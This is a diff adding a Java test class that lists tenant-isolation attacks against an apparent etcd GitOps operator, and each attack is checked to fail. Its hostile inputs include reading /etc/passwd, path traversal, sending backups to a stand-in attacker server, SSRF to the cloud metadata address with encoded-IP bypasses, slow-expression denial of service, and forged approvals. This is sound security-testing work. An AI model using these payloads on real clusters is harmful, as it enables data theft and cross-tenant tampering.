@@ -1,0 +1,241 @@
+package io.github.etcdgitops.trial;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+
+import io.github.etcdgitops.trial.Attack.Move;
+import io.github.etcdgitops.trial.Attack.Party;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.stream.Stream;
+
+/// What a contributor of team b can merge beside rings: restores, backups, one-shots, tombstones, approvals and
+/// policies that name what belongs to team a, or to the operator.
+final class DocumentAttacks {
+    private static final String LOOT = "loot";
+
+    private DocumentAttacks() {}
+
+    static List<Attack> all() {
+        return Stream.of(restores(), places(), oneShots(), rules())
+                .flatMap(List::stream)
+                .toList();
+    }
+
+    private static List<Attack> restores() {
+        return List.of(
+                restore(
+                        "the newest backup of team a",
+                        arena -> "{policy: nightly, cluster: {namespace: " + arena.victims() + ", name: quiet}}"),
+                restore("a file of the operator's machine", _ -> "{url: \"file:///etc/passwd\"}"),
+                restore("the folder of team a's backups", arena -> "{url: \"file://" + snapshot(arena) + "\"}"),
+                restore("the same by a way around", arena -> "{url: \"file:///tmp/.." + snapshot(arena) + "\"}"),
+                restore(
+                        "gs:// at a server of the attacker",
+                        arena -> "{url: \"gs://any/any\", endpoint: \""
+                                + arena.snare().url("http") + "\", credentialsRef: {name: storage}}"),
+                restore(
+                        "s3:// at a server of the attacker",
+                        arena -> "{url: \"s3://any/any\", endpoint: \""
+                                + arena.snare().url("http")
+                                + "\", region: eu-central-1, pathStyle: true, credentialsRef: {name: storage}}"),
+                restore(
+                        "s3:// over TLS at a server of the attacker",
+                        arena -> "{url: \"s3://any/any\", endpoint: \""
+                                + arena.snare().url("https")
+                                + "\", region: eu-central-1, pathStyle: true, credentialsRef: {name: storage}}"),
+                restore(
+                        "the address of the machine's metadata",
+                        _ -> "{url: \"s3://any/any\", endpoint: \"http://169.254.169.254\", region: eu-central-1,"
+                                + " pathStyle: true, credentialsRef: {name: storage}}"));
+    }
+
+    private static Path snapshot(FenceArena arena) throws Exception {
+        return arena.place()
+                .file(arena.place().keys().stream()
+                        .filter(key -> key.contains("snapshot"))
+                        .findFirst()
+                        .orElseThrow());
+    }
+
+    /// `from` is YAML.
+    private interface From {
+        String of(FenceArena arena) throws Exception;
+    }
+
+    private static Attack restore(String what, From from) {
+        return merges("a restore of " + what, arena -> {
+                    arena.write("clusters/team-b/loot.yaml", arena.ring(LOOT, arena.attackers(), ""));
+                    arena.write("clusters/team-b/restore.yaml", """
+                        apiVersion: etcdgitops.dev/v1alpha1
+                        kind: EtcdRestore
+                        metadata: {name: loot}
+                        spec:
+                          cluster: {namespace: %s, name: %s}
+                          from: %s
+                        """.formatted(arena.attackers(), LOOT, from.of(arena)));
+                })
+                .proof((arena, _) ->
+                        TrialFailure.unless(!arena.founded(arena.attackers(), LOOT), "the ring was founded"));
+    }
+
+    private static List<Attack> places() {
+        return List.of(
+                keeps(
+                                "team b keeps its backups beside those of team a",
+                                arena -> arena.place().destination())
+                        .proof((arena, _) -> TrialFailure.unless(
+                                arena.place().keys().stream().noneMatch(key -> key.contains(arena.attackers())),
+                                "a backup of team b lies in the place of team a")),
+                keeps("in a folder of the operator's machine", arena -> "directory: {path: \"" + outside(arena) + "\"}")
+                        .proof((arena, _) ->
+                                TrialFailure.unless(!outside(arena).toFile().exists(), "the folder was written to")),
+                keeps(
+                        "at a server of the attacker",
+                        arena -> "s3: {bucket: loot, endpoint: \""
+                                + arena.snare().url("http") + "\", pathStyle: true, credentialsRef: {name: storage}}"),
+                keeps(
+                        "at a server of the attacker over TLS",
+                        arena -> "s3: {bucket: loot, endpoint: \""
+                                + arena.snare().url("https") + "\", pathStyle: true, credentialsRef: {name: storage}}"),
+                keeps(
+                        "at an address in decimal digits",
+                        arena -> "s3: {bucket: loot, endpoint: \"http://2130706433:"
+                                + arena.snare().port() + "\", pathStyle: true, credentialsRef: {name: storage}}"),
+                keeps(
+                        "at an IPv4 address inside IPv6",
+                        arena -> "s3: {bucket: loot, endpoint: \"http://[::ffff:127.0.0.1]:"
+                                + arena.snare().port() + "\", pathStyle: true, credentialsRef: {name: storage}}"),
+                keeps(
+                        "in Google's dialect at a server of the attacker",
+                        arena -> "gcs: {bucket: loot, endpoint: \""
+                                + arena.snare().url("http") + "\", credentialsRef: {name: storage}}"),
+                keeps(
+                        "at a port that is none",
+                        _ -> "s3: {bucket: loot, endpoint: \"http://minio:99999\", pathStyle: true, credentialsRef:"
+                                + " {name: storage}}"),
+                keeps(
+                        "with credentials outside the folder",
+                        arena -> "s3: {bucket: loot, endpoint: \""
+                                + arena.snare().url("http")
+                                + "\", pathStyle: true, credentialsRef: {name: ../../etc}}"),
+                merges(
+                        "backups of team a's rings to a server of the attacker",
+                        arena -> policy(
+                                arena,
+                                arena.victims(),
+                                "s3: {bucket: loot, endpoint: \""
+                                        + arena.snare().url("http")
+                                        + "\", pathStyle: true, credentialsRef: {name: storage}}")));
+    }
+
+    private static Path outside(FenceArena arena) {
+        return arena.bench().folder().resolve("outside");
+    }
+
+    private static Attack keeps(String where, From destination) {
+        return merges("backups " + where, arena -> policy(arena, arena.attackers(), destination.of(arena)));
+    }
+
+    private static void policy(FenceArena arena, String namespace, String destination) throws Exception {
+        arena.write("policies/team-b/loot.yaml", """
+            apiVersion: etcdgitops.dev/v1alpha1
+            kind: BackupPolicy
+            metadata: {name: loot}
+            spec:
+              clusters: {namespaces: [%s]}
+              every: 1h
+              destination:
+                %s
+            """.formatted(namespace, destination));
+    }
+
+    private static List<Attack> oneShots() {
+        return List.of(
+                names("a backup on request", "EtcdBackup", "clusters", "policy: nightly"),
+                names(
+                        "a reset of a volume",
+                        "VolumeReset",
+                        "clusters",
+                        "ordinal: 0\n  claimUid: 7c5e3f0a-9a54-4f6e-8e1c-2f6a0d1b9c34\n  reason: broken"),
+                names(
+                        "a replacement of a member",
+                        "MemberReplacement",
+                        "clusters",
+                        "ordinal: 0\n  memberId: 8e9e05c52164694d\n  reason: broken"),
+                names(
+                        "a tombstone",
+                        "Tombstone",
+                        "tombstones",
+                        "clusterId: cdf818194e3a8c32\n  data: retain\n  reason: gone"),
+                names(
+                        "an approval",
+                        "Approval",
+                        "approvals",
+                        "operations: [0a1b2c3d4e5f6071]\n"
+                                + "  approvedBy: mallory@example.org\n"
+                                + "  reason: because\n"
+                                + "  expires: \"2099-01-01T00:00:00Z\""));
+    }
+
+    private static Attack names(String what, String kind, String folder, String more) {
+        return merges(
+                        what + " for the ring of team a",
+                        arena -> arena.write(folder + "/team-b/loot.yaml", """
+                            apiVersion: etcdgitops.dev/v1alpha1
+                            kind: %s
+                            metadata: {name: loot}
+                            spec:
+                              cluster: {namespace: %s, name: quiet}
+                              %s
+                            """.formatted(kind, arena.victims(), more)))
+                .proof((arena, _) -> TrialFailure.unless(
+                        arena.founded(arena.victims(), FenceArena.QUIET), "the ring of team a is gone"));
+    }
+
+    private static List<Attack> rules() {
+        return List.of(
+                rule("a policy that denies every change of everybody", "Policy", "rules: {freeze: {reason: mine}}"),
+                rule(
+                        "a policy for the rings of team a",
+                        "Policy",
+                        "clusters: {namespaces: [VICTIMS]}\n  rules: {odd-members: {sizes: [7]}}"),
+                rule(
+                        "300 expressions that take long",
+                        "Policy",
+                        "validations:\n"
+                                + "    - {expression: \"[1,2,3,4,5,6,7,8,9,10].all(a, [1,2,3,4,5,6,7,8,9,10].all(b, [1,2,3,4,5,6,7,8,9,10].all(c, [1,2,3,4,5,6,7,8,9,10].all(d, true))))\", message: slow}\n"
+                                        .repeat(300)),
+                rule(
+                        "an exemption from every rule",
+                        "PolicyExemption",
+                        "rules: [require-tls]\n"
+                                + "  rings: [{namespace: VICTIMS, name: quiet}]\n"
+                                + "  owner: mallory\n"
+                                + "  reason: because\n"
+                                + "  ticket: X-1\n"
+                                + "  created: \"2026-11-01T00:00:00Z\"\n"
+                                + "  expires: \"2026-12-30T00:00:00Z\""),
+                merges(
+                        "settings of the fleet in the folder of the team",
+                        arena -> arena.write(
+                                "clusters/team-b/fleet.yaml",
+                                "apiVersion: etcdgitops.dev/v1alpha1\n"
+                                        + "kind: Fleet\n"
+                                        + "metadata: {name: mine}\n"
+                                        + "spec: {approvals: {authorMayApprove: true}}\n")));
+    }
+
+    private static Attack rule(String what, String kind, String spec) {
+        return merges(
+                what,
+                arena -> arena.write(
+                        "policies/team-b/loot.yaml",
+                        ("apiVersion: etcdgitops.dev/v1alpha1\nkind: " + kind + "\nmetadata: {name: loot}\nspec:\n  "
+                                        + spec.replace("VICTIMS", arena.victims()) + "\n")
+                                .getBytes(UTF_8)));
+    }
+
+    private static Attack merges(String name, Move move, String... stops) {
+        return Attack.by(Party.CONTRIBUTOR, name, move, stops);
+    }
+}
